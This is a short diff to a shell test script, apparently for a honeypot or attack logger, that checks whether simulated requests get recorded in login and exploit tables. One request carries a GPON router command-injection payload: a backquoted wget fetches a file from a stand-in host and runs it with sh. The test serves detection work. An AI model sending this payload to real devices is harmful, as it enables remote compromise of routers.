@@ -27,6 +27,7 @@ wait_sql "SELECT COUNT(*) FROM logins" 2
 for i in 1 2; do
 	curl -s -o /dev/null -H "X-Forwarded-For: 8.8.8.8" "$BASE/Security/users?auth=YWRtaW46MTEK&n=$i"
 done
+# shellcheck disable=SC2016 # the backquotes are the attacker's, sent as they are
 curl -s -o /dev/null -H "X-Forwarded-For: 8.8.8.8" --data-binary \
 	'XWebPageName=diag&dest_host=`wget http://198.51.100.99/m -O /tmp/g`;sh /tmp/g' "$BASE/GponForm/diag_Form?images/"
 wait_sql "SELECT COUNT(*) FROM exploits WHERE src_ip = '8.8.8.8'" 3
